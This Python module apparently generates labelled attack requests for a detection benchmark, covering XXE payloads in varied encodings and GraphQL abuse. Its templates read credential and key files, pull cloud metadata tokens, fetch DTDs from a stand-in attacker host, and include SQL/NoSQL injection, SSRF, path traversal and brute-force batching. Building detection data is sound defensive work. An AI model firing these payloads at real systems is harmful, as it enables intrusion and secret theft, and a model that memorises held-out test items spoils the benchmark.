"""Families whose production is a document of its own: XXE in its encodings, GraphQL abuse.

XML 1.0 (fifth edition) 2.8, 4.2 and appendix F; GraphQL (October 2021) 2, 3.13 and 4.
"""

import base64
import json
import random

from heldout import carrier, grammar, place, words

XXE = {
    "val": (
        ('<!DOCTYPE §lower#r§ [<!ENTITY §lower#e§ SYSTEM "file:///etc/⟦passwd¦hosts¦shadow⟧">]><§lower#r§>&§lower#e§;</§lower#r§>'),
        ('<!DOCTYPE §lower#r§ [<!ENTITY §lower#e§ SYSTEM "http://§evil§/§lower§">]><§lower#r§><§word#i§>&§lower#e§;</§word#i§></§lower#r§>'),
        ('<!DOCTYPE §lower#r§ [<!ENTITY % §lower#p§ SYSTEM "http://§evil§/§lower§.dtd"> %§lower#p§;]><§lower#r§/>'),
        ('<!DOCTYPE §lower#r§ SYSTEM "http://§evil§/§lower§.dtd"><§lower#r§>§word§</§lower#r§>'),
        ('<!DOCTYPE lolz [<!ENTITY a "§lower§"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;">]><lolz>&d;</lolz>'),
        ('<!DOCTYPE §lower#r§ [<!ENTITY §lower#e§ SYSTEM "php://filter/convert.base64-encode/resource=⟦index.php¦config.php⟧">]><§lower#r§>&§lower#e§;</§lower#r§>'),
    ),
    "seen": (
        ('<!DOCTYPE §word#r§ [⏎  <!ELEMENT §word#r§ ANY>⏎  <!ENTITY §ident#e§ SYSTEM "⟦file:///c:/windows/win.ini¦file:///proc/self/environ¦file:///etc/fstab¦file:///root/.ssh/id_rsa¦file:///var/www/.env⟧">⏎]>⏎<§word#r§ v="§digit§">&§ident#e§;</§word#r§>'),
        ('<!DOCTYPE §word#r§ PUBLIC "-//§upper§//DTD §upword§//EN" "http://§evil§/⟦a.dtd¦§lower§⟧"><§word#r§><id>§int§</id></§word#r§>'),
        ('<!DOCTYPE §word#r§ [<!ENTITY % §lower#a§ SYSTEM "file:///etc/⟦hostname¦issue⟧"><!ENTITY % §lower#b§ SYSTEM "⟦http¦ftp⟧://§evil§/§lower§.dtd">%§lower#b§;%all;]><§word#r§>&send;</§word#r§>'),
        ('<!DOCTYPE §word#r§ [<!ENTITY §ident#e§ PUBLIC "§rand§" "⟦netdoc:///etc/hosts¦jar:http://§evil§/x.jar!/a¦gopher://§private§:6379/_INFO¦expect://id⟧">]><§word#r§>&§ident#e§;</§word#r§>'),
        ('<!DOCTYPE §word#r§ [<!ENTITY % local SYSTEM "file:///usr/share/⟦yelp/dtd/docbookx.dtd¦xml/fontconfig/fonts.dtd⟧"><!ENTITY % ⟦ISOamso¦expr⟧ \'<!ENTITY &#x25; §lower#f§ SYSTEM "file:///etc/passwd"><!ENTITY &#x25; eval "<!ENTITY &#x26;#x25; err SYSTEM &#x27;file:///§lower§/&#x25;§lower#f§;&#x27;>">&#x25;eval;&#x25;err;\'>%local;]><§word#r§/>'),
        ('<§word#r§ xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href="⟦file:///etc/group¦file:///c:/boot.ini¦http://§private§:§port§/⟧"/></§word#r§>'),
        ('<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/"><xsl:copy-of select="document(\'⟦/etc/passwd¦http://§evil§/¦file:///c:/windows/system.ini⟧\')"/></xsl:template></xsl:stylesheet>'),
        ('<!DOCTYPE §word#r§ [<!ENTITY x0 "§rand§§rand§§rand§"><!ENTITY x1 "&x0;&x0;&x0;&x0;&x0;&x0;"><!ENTITY x2 "&x1;&x1;&x1;&x1;&x1;&x1;"><!ENTITY x3 "&x2;&x2;&x2;&x2;&x2;&x2;"><!ENTITY x4 "&x3;&x3;&x3;&x3;&x3;&x3;">]><§word#r§ a="&x4;"/>'),
        ('<!DOCTYPE §word#r§ [<!ATTLIST §word#r§ §lower#q§ ENTITY #IMPLIED><!NOTATION n SYSTEM "§lower§"><!ENTITY §lower#q§ SYSTEM "http://§evil§/§lower§" NDATA n>]><§word#r§ §lower#q§="§lower#q§"/>'),
        ('<!DOCTYPE svg [<!ENTITY §ident#e§ SYSTEM "file:///⟦etc/hostname¦proc/self/cmdline⟧">]><svg width="§int§" height="§int§" xmlns="http://www.w3.org/2000/svg"><text x="0" y="16">&§ident#e§;</text></svg>'),
        ('<?xml-stylesheet type="text/xsl" href="http://§evil§/§lower§.xsl"?><!DOCTYPE §word#r§ SYSTEM "file:///dev/random" [<!ENTITY §lower#d§ SYSTEM "\\\\§evil§\\§lower§">]><§word#r§>&§lower#d§;</§word#r§>'),
        ('<!DOCTYPE §word#r§ [<!ENTITY §ident#e§ SYSTEM "http://169.254.169.254/latest/⟦user-data¦meta-data/iam/security-credentials/⟧">]><§word#r§><![CDATA[§word§]]>&§ident#e§;</§word#r§>'),
        ('<!DOCTYPE §word#r§ [<!ENTITY % begin "<![CDATA["><!ENTITY % goodies SYSTEM "file:///⟦srv/app/settings.py¦etc/tomcat/tomcat-users.xml⟧"><!ENTITY % end "]]>"><!ENTITY % dtd SYSTEM "http://§evil§/join.dtd"> %dtd;]><§word#r§>&all;</§word#r§>'),
    ),
    "test": (
        ('<!DOCTYPE soap:Envelope [<!ENTITY §ident#e§ SYSTEM "file:///var/run/secrets/kubernetes.io/serviceaccount/⟦token¦namespace⟧">]><soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body><§word#r§><id>&§ident#e§;</id></§word#r§></soap:Body></soap:Envelope>'),
        ('<!DOCTYPE methodCall [<!ENTITY §ident#e§ SYSTEM "file:///⟦home/§user§/.bash_history¦etc/ssh/sshd_config¦opt/app/.env⟧">]><methodCall><methodName>§word§.§verb§</methodName><params><param><value><string>&§ident#e§;</string></value></param></params></methodCall>'),
        ('<!DOCTYPE rss [<!ENTITY §ident#e§ SYSTEM "⟦file:///etc/apache2/apache2.conf¦http://§private§:9200/_cat/indices⟧">]><rss version="2.0"><channel><title>&§ident#e§;</title><item><title>§upword§</title></item></channel></rss>'),
        ('<!DOCTYPE samlp:Response [<!ENTITY §ident#e§ SYSTEM "http://§evil§/§lower§">]><samlp:Response xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol" ID="_§hex32§" Version="2.0"><saml:Issuer xmlns:saml="urn:oasis:names:tc:SAML:2.0:assertion">&§ident#e§;</saml:Issuer></samlp:Response>'),
        ('<!DOCTYPE w:document [<!ENTITY §ident#e§ SYSTEM "file:///etc/⟦passwd¦resolv.conf⟧">]><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>&§ident#e§;</w:t></w:r></w:p></w:body></w:document>'),
        ('<!DOCTYPE sst [<!ENTITY % §lower#p§ SYSTEM "http://§evil§/§lower§.⟦dtd¦ent⟧">%§lower#p§;]><sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="1"><si><t>§word§</t></si></sst>'),
        ('<!DOCTYPE D:propfind [<!ENTITY §ident#e§ SYSTEM "file:///⟦etc/passwd¦c:/windows/system32/drivers/etc/hosts⟧">]><D:propfind xmlns:D="DAV:"><D:prop><D:displayname>&§ident#e§;</D:displayname></D:prop></D:propfind>'),
        ('<!DOCTYPE plist [<!ENTITY §ident#e§ SYSTEM "file:///⟦private/etc/master.passwd¦etc/hosts⟧">]><plist version="1.0"><dict><key>§upword§</key><string>&§ident#e§;</string></dict></plist>'),
        ('<!DOCTYPE gpx [<!ENTITY §ident#e§ SYSTEM "http://metadata.google.internal/computeMetadata/v1/⟦project/project-id¦instance/service-accounts/default/token⟧">]><gpx version="1.1"><wpt lat="§decimal§" lon="§decimal§"><name>&§ident#e§;</name></wpt></gpx>'),
        ('<!DOCTYPE §word#r§ [<!ENTITY % §lower#a§ "<!ENTITY &#37; §lower#b§ SYSTEM \'http://§evil§/§lower§\'>">%§lower#a§;%§lower#b§;]><§word#r§/>'),
        ('<!DOCTYPE §word#r§ [<!ENTITY % §lower#a§ "⟪entx:<!ENTITY % x SYSTEM "http://§evil§/">%x;⟫">%§lower#a§;]><§word#r§>§int§</§word#r§>'),
        ('<!DOCTYPE §word#r§ [<!ENTITY % §lower#p§ SYSTEM "data:⟦//text/plain;base64¦text/plain;base64⟧,⟪b64:<!ENTITY e SYSTEM "file:///etc/passwd">⟫">%§lower#p§;]><§word#r§>&e;</§word#r§>'),
        ('<!DOCTYPE §word#r§ [⏎<!-- §sentence§ -->⏎<!ENTITY⇥§ident#e§⏎SYSTEM⏎⇥\'file:///⟦etc/passwd¦etc/hosts¦proc/1/cgroup⟧\'⏎>⏎]⏎>⏎<§word#r§>&§ident#e§;</§word#r§>'),
        ('<!DOCTYPE §word#r§ [<!ENTITY §ident#e§ SYSTEM "php://filter/⟦zlib.deflate/convert.base64-encode¦read=string.rot13¦convert.iconv.utf-8.utf-16⟧/resource=⟦/etc/passwd¦../.env¦/var/www/html/wp-config.php⟧">]><§word#r§ type="§lower§">&§ident#e§;</§word#r§>'),
        ('<!DOCTYPE §word#r§ [<!ENTITY §ident#e§ SYSTEM "⟦compress.zlib:///etc/passwd¦phar:///tmp/§lower§.jpg¦zip:///tmp/§lower§.zip¦ogg:///etc/hosts⟧">]><§word#r§>&§ident#e§;</§word#r§>'),
        ('<!DOCTYPE §word#r§ [<!ENTITY §ident#e§ SYSTEM "⟦ldap://§evil§:389/§lower§¦dict://§private§:11211/stats¦sftp://§evil§:22/¦tftp://§evil§:69/§lower§⟧">]><§word#r§>&§ident#e§;</§word#r§>'),
        ('<!DOCTYPE §word#r§ [<!ENTITY §ident#a§ "⟪rep:§rand§§rand§§rand§§rand§§rand§§rand§§rand§§rand§⟫">]><§word#r§>⟪rep:&§ident#a§;&§ident#a§;&§ident#a§;&§ident#a§;&§ident#a§;&§ident#a§;&§ident#a§;&§ident#a§;&§ident#a§;&§ident#a§;⟫</§word#r§>'),
        ('<!DOCTYPE §word#r§ [<!ENTITY §lower#a§ "&§upper#b§;"><!ENTITY §upper#b§ "&§lower#a§;">]><§word#r§>&§lower#a§;</§word#r§>'),
        ('<!DOCTYPE §word#r§ [<!ENTITY % §lower#p§0 "<!---->"><!ENTITY % §lower#p§1 "&#37;§lower#p§0;&#37;§lower#p§0;&#37;§lower#p§0;&#37;§lower#p§0;"><!ENTITY % §lower#p§2 "&#37;§lower#p§1;&#37;§lower#p§1;&#37;§lower#p§1;&#37;§lower#p§1;"><!ENTITY % §lower#p§3 "&#37;§lower#p§2;&#37;§lower#p§2;&#37;§lower#p§2;&#37;§lower#p§2;">%§lower#p§3;]><§word#r§/>'),
        ('<xsl:stylesheet version="⟦2.0¦3.0⟧" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/"><xsl:value-of select="unparsed-text(\'⟦file:///etc/passwd¦/etc/hosts¦http://§evil§/⟧\', \'utf-8\')"/></xsl:template></xsl:stylesheet>'),
        ('<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:⟦include¦import⟧ href="http://§evil§/§lower§.xsl"/><xsl:template match="/"><§word§/></xsl:template></xsl:stylesheet>'),
        ('<svg xmlns="http://www.w3.org/2000/svg" xmlns:xi="http://www.w3.org/2001/XInclude" width="§int§" height="§int§"><text y="20"><xi:include href="⟦file:///etc/passwd¦file:///etc/hostname¦http://§evil§/§lower§⟧" parse="text"><xi:fallback>§word§</xi:fallback></xi:include></text></svg>'),
        ('<!DOCTYPE manifest [<!ENTITY % §lower#p§ SYSTEM "ftp://§evil§:2121/§lower§"> %§lower#p§;]><manifest package="com.§word§.§word§" xmlns:android="http://schemas.android.com/apk/res/android"><application android:label="§upword§"/></manifest>'),
    ),
}
XXE_PLACES = {"raw": 3, "xml": 2, "multipart": 1.2, "form": 1, "query": 1, "json": 0.7, "graphql": 0.4, "cookie": 0.3}
ENCODINGS = {
    "val": ("utf-8", "utf-8", "utf-16-le-bom", "utf-16-be-bom", "cp037"),
    "seen": ("utf-8", "utf-8", "utf-8-bom", "utf-16-le-bom", "utf-16-be-bom", "utf-16-le", "utf-16-be", "utf-7", "utf-7", "cp037", "cp037", "utf-32-be", "latin-1"),
    "test": ("utf-8", "utf-8", "us-ascii", "windows-1252", "utf-16-le-bom", "utf-16-be", "utf-32-le", "cp500", "cp1140"),
}


def xml_bytes(rng, document, encoding):
    """The document in one encoding, with the declaration that names it."""
    label, codec, mark = {
        "utf-8": ("UTF-8", "utf-8", b""), "utf-8-bom": ("UTF-8", "utf-8", b"\xef\xbb\xbf"),
        "utf-16-le-bom": ("UTF-16", "utf-16-le", b"\xff\xfe"), "utf-16-be-bom": ("UTF-16", "utf-16-be", b"\xfe\xff"),
        "utf-16-le": ("UTF-16LE", "utf-16-le", b""), "utf-16-be": ("UTF-16BE", "utf-16-be", b""),
        "utf-7": ("UTF-7", "utf-7", b""), "cp037": (rng.choice(["IBM037", "CP037"]), "cp037", b""),
        "utf-32-be": ("UTF-32", "utf-32-be", b"\x00\x00\xfe\xff"), "latin-1": ("ISO-8859-1", "latin-1", b""),
        "us-ascii": ("US-ASCII", "ascii", b""), "windows-1252": ("windows-1252", "cp1252", b""), "utf-32-le": ("UTF-32", "utf-32-le", b"\xff\xfe\x00\x00"),
        "cp500": ("IBM500", "cp500", b""), "cp1140": ("IBM01140", "cp1140", b""),
    }[encoding]
    declaration = "<?xml version=%s encoding=%s?>" % tuple(rng.choice("'\"").join(["", text, ""]) for text in ("1.0", label)) + rng.choice(["", "\n"])
    declaration = declaration if encoding != "utf-8" or rng.random() < 0.8 else ""
    if encoding == "utf-7":  # the declaration stays readable, the rest hides its brackets
        return declaration.encode() + "".join(c if c not in "<>!\"&%" else "+%s-" % base64.b64encode(c.encode("utf-16-be")).decode().rstrip("=") for c in document).encode()
    return mark + (declaration + document).encode(codec, "replace")


def of(table, split):
    """What a table has for a split, of all its sections."""
    return [one for section in grammar.SECTIONS[split] for one in table[section]]


def xxe(split, seed, dataset, kind):
    from heldout import build
    rng = random.Random("%s/%s/%d" % (dataset, split, seed))
    counts, seen, made = {}, set(), []
    while len(made) < build.COUNT[split]:
        production = rng.choice(of(XXE, split))
        document = grammar.expand(rng, production)
        where = build.next_place(rng, counts, list(XXE_PLACES), XXE_PLACES)
        request = carrier.Request(rng, rng.choice(build.fitting(split, where, False)))
        encoding = rng.choice(of(ENCODINGS, split)) if where in ("raw", "xml") else "utf-8"
        content = xml_bytes(rng, document, encoding)
        if where in ("raw", "xml"):
            request.media, request.bytes = rng.choice(["application/xml", "text/xml", "application/soap+xml", "image/svg+xml"]) + ("" if encoding != "utf-7" or rng.random() < 0.5 else "; charset=utf-7"), content
            if "svg" not in document and "svg" in request.media:
                request.media = "application/xml"
        elif where == "multipart" and "<svg" not in document:
            place.put_file(rng, request, where, content.decode(), [rng.choice(["data", "import", words.ident(rng)]) + rng.choice([".xml", ".rdf", ".gpx", ".kml", ".plist"])])
        elif where == "multipart":
            place.put_file(rng, request, where, content.decode(), [words.ident(rng) + ".svg"])
        else:
            try:
                place.put(rng, request, where, content.decode().replace("\n", " "), keys=["xml", "data", "payload", "SAMLRequest", "doc", "config"])
            except place.Unsuitable:
                counts[where] = counts.get(where, 0) + 0.1
                continue
        if document in seen:
            continue
        seen.add(document)
        counts[where] = counts.get(where, 0) + 1
        record = request.record("%s-%s-%04d" % (dataset, split, len(made)), dataset, "attack", kind, where)
        record["payload"], record["encoding"] = document, encoding
        made.append(record)
    return made


def repeat(rng, low, high, make, joint=" "):
    return joint.join(make(n) for n in range(rng.randint(low, high)))


def graphql_val(rng, shape):
    """One abusive document, of the kinds in [val]."""
    word = words.pick(rng, "word")
    if shape == 0:
        return "{ __schema { types { name fields { name type { name kind ofType { name } } args { name } } } } }" if rng.random() < 0.5 else "query %s { __schema { queryType { name } mutationType { name } types { ...F } } } fragment F on __Type { kind name description fields(includeDeprecated: true) { name } }" % word
    if shape == 1:
        return "mutation { " + repeat(rng, 12, 40, lambda n: 'a%d: login(user: "%s", password: "%s%d") { token }' % (n, word, words.atom(rng, "pass"), n)) + " }"
    if shape == 2:
        depth = rng.randint(9, 22)
        return "query { " + "user { friends { " * depth + "id" + " } }" * depth + " }"
    return 'query { %s(id: "%s") { id } }' % (words.pick(rng, "thing"), grammar.expand(rng, "§id§' ⟦OR '1'='1¦UNION SELECT §column§ FROM §table§--⟧"))


def graphql_seen(rng, shape):
    """One abusive document, of the kinds in [seen]."""
    word, other = words.pick(rng, "word"), words.pick(rng, "thing")
    if shape == 0:
        return 'query { __type(name: "%s") { name kind fields(includeDeprecated: true) { name args { name defaultValue type { name } } type { name ofType { name } } } inputFields { name } } __typename }' % rng.choice(["User", "Query", "Mutation", "Admin", word.capitalize()])
    if shape == 1:
        return "fragment A on %s { ...B } fragment B on %s { ...%s } query %s { %s { ...A } }" % (word.capitalize(), word.capitalize(), rng.choice(["A", "B"]), other.capitalize(), word)
    if shape == 2:
        return "query { %s " % word + "".join("@%s " % rng.choice(["aa", "skip(if:false)", "include(if:true)", word]) for _ in range(rng.randint(60, 300))) + "{ id } }"
    if shape == 3:
        return "{ " + "__typename " * rng.randint(150, 700) + "}"
    if shape == 4:
        return "query { " + repeat(rng, 40, 150, lambda n: '%s%d: checkCoupon(code: "%s%04d") { valid value }' % (word[:2], n, word.upper(), rng.randint(0, 9999))) + " }"
    if shape == 5:
        return "mutation { " + repeat(rng, 25, 90, lambda n: 'otp%d: verifyOtp(phone: "%s", code: "%06d") { accessToken }' % (n, words.atom(rng, "phone"), rng.randint(0, 999999))) + " }"
    if shape == 6:
        depth = rng.randint(12, 30)
        return "query %s { " % word + "".join("%s(first: %d) { edges { node { " % (rng.choice(["author", "comments", "posts", "replies"]), rng.randint(100, 9999)) for _ in range(depth)) + "id" + " } } }" * depth + " }"
    if shape == 7:
        return "query %s { " % word + "__schema { types { fields { type { fields { type { " + "fields { type { " * rng.randint(3, 9) + "name"
    return "query { systemDiagnostics(cmd: \"%s\") }" % rng.choice(["id", "cat /etc/passwd", "; uname -a", "whoami && ls"])


def graphql_test(rng, shape):
    """One abusive document, of the kinds in [test]."""
    word, type_ = words.pick(rng, "word"), words.pick(rng, "thing").capitalize()
    fill = lambda text: grammar.expand(rng, text)
    if shape == 0:  # introspection that goes round a filter for "__schema {"
        return rng.choice(["query{__schema\n{queryType{name}subscriptionType{name}}}", "query %s { ...S } fragment S on Query { __schema { directives { name locations args { name } } } }" % word,
                           "{ s: __schema,{ types { name kind possibleTypes { name } interfaces { name } enumValues(includeDeprecated: true) { name isDeprecated } } } }"]).replace("{ ...", "{%s..." % rng.choice([" ", "\n", "\t"])) + "\n" * rng.randint(0, 3)
    if shape == 1:  # Apollo federation: the schema of a subgraph, entities past the gateway
        return rng.choice(["query %s { _service { sdl } __schema { types { name fields { name } } } }" % word, 'query { _entities(representations: [{__typename: "%s", id: "%s"}]) { ... on %s { id email passwordHash } } }' % (type_, words.atom(rng, "id"), type_)])
    if shape == 2:
        return "query { " + repeat(rng, 60, 220, lambda n: "u%d: user(id: %d) { email phone passwordHash resetToken }" % (n, n + 1)) + " }"
    if shape == 3:  # fragments that double at each level
        depth = rng.randint(10, 26)
        return "query %s { ...F0 } " % word + " ".join("fragment F%d on Query { ...F%d ...F%d }" % (n, n + 1, n + 1) for n in range(depth)) + " fragment F%d on Query { __typename }" % depth
    if shape == 4:
        depth = rng.randint(150, 900)
        return "query { %s(filter: %s1%s) { id } }" % (word, "[" * depth, "]" * depth)
    if shape == 5:
        depth = rng.randint(25, 90)
        return "query %s { items(where: " % word + "".join("{%s: [" % rng.choice(["and", "or", "not"]) for _ in range(depth)) + '{id: {eq: "%s"}}' % words.atom(rng, "id") + "]}" * depth + ") { id } }"
    if shape == 6:
        return "query { " + repeat(rng, 120, 500, lambda n: "alias%d:__typename" % n, rng.choice([" ", "\n", ","])) + " }"
    if shape == 7:
        return fill('mutation { ⟦importPaste(host: "169.254.169.254", port: 80, path: "/latest/meta-data/", scheme: "http") { result }¦importFromUrl(url: "http://⟦169.254.169.254/latest/user-data¦§private§:§port§/¦localhost:2375/containers/json⟧") { id status }⟧ }')
    if shape == 8:
        return fill('mutation §word§ { ⟦uploadPaste(content: "§rand§", filename: "¦saveFile(data: "§rand§", path: "⟧../../../../../⟦tmp/§lower§¦var/www/html/§lower§.php¦root/.ssh/authorized_keys⟧") { result } }')
    if shape == 9:
        return fill('{ §thing§s(options: "{\\"limit\\": 1, \\"§column§\\": 1}", search: "{\\"§column§\\": {\\"$⟦regex\\": \\".*¦ne\\": \\"§rand§⟧\\"}, \\"role\\": \\"admin\\"}") { id §column§ } }')
    if shape == 10:
        return fill('query { §table§(orderBy: "⟦id; SELECT pg_sleep(§small§)--¦(CASE WHEN (SELECT 1 FROM pg_user LIMIT 1)=1 THEN id ELSE name END)¦name,(SELECT sleep(§small§))¦id; WAITFOR DELAY \'0:0:§small§\'--⟧") { id } }')
    if shape == 11:
        return fill('query { users(where: {⟦password¦resetToken¦apiKey⟧: {⟦_like¦_ilike¦startsWith¦_similar⟧: "§lower§%"}}, limit: §big§) { id email password resetToken } }')
    return "query %s { " % word + repeat(rng, 40, 160, lambda n: '... on Query @defer(label: "d%d") { %s%d: slowReport { total } }' % (n, word, n)) + " }"


SHAPES = {"val": (graphql_val, 4), "seen": (graphql_seen, 9), "test": (graphql_test, 13)}
PATHS = {"val": ("/graphql", "/api"), "seen": ("/graphql", "/api/graphql", "/v1/graphql", "/query", "/gql", "/graphql/console"), "test": ("/graphql", "/graphql/v2", "/api/gql", "/backend/graphql", "/_graphql", "/admin/api/graphql.json", "/wp/graphql")}


def graphql_document(rng, split):
    """One abusive document of a split, each kind of its sections equally likely."""
    make, shape = rng.choice([(make, shape) for make, count in (SHAPES[section] for section in grammar.SECTIONS[split]) for shape in range(count)])
    return balanced(make(rng, shape))


def balanced(document):
    return document + " }" * (document.count("{") - document.count("}"))


GRAPHQL_PLACES = {"graphql": 4, "json": 2, "query": 2, "raw": 1.5, "form": 1, "multipart": 1}


def graphql(split, seed, dataset, kind):
    from heldout import build
    rng = random.Random("%s/%s/%d" % (dataset, split, seed))
    counts, seen, made = {}, set(), []
    while len(made) < build.COUNT[split]:
        document = graphql_document(rng, split)
        where = build.next_place(rng, counts, list(GRAPHQL_PLACES), GRAPHQL_PLACES)
        if document in seen and rng.random() < 0.97:
            continue
        request = carrier.Request(rng, rng.choice(build.fitting(split, where, False)))
        request.path = rng.choice(of(PATHS, split))
        if where == "graphql":
            request.body = {"query": document, "variables": {}} if rng.random() < 0.6 else {"operationName": None, "variables": None, "query": document}
        elif where == "json":  # a batch: the same abuse many times in one array
            request.body = [{"query": graphql_document(rng, split) if n else document} for n in range(rng.randint(2, 6))]
        elif where == "query":
            if len(document) > 6000:
                continue
            request.query = [["query", place.quote(rng, document, "query")]]
        elif where == "form":
            request.body = [["query", carrier.form_quote(document)], ["variables", "%7B%7D"]]
        elif where == "multipart":
            request.parts = [["operations", None, None, json.dumps({"query": document, "variables": {"file": None}}).encode(), False], ["map", None, None, b'{"0":["variables.file"]}', False], ["0", "a.txt", "text/plain", words.ident(rng).encode(), False]]
        else:
            request.media, request.bytes = "application/graphql", document.encode()
        seen.add(document)
        counts[where] = counts.get(where, 0) + 1
        record = request.record("%s-%s-%04d" % (dataset, split, len(made)), dataset, "attack", kind, where)
        record["payload"] = document
        made.append(record)
    return made


FAMILIES = {"xxe": xxe, "graphql": graphql}
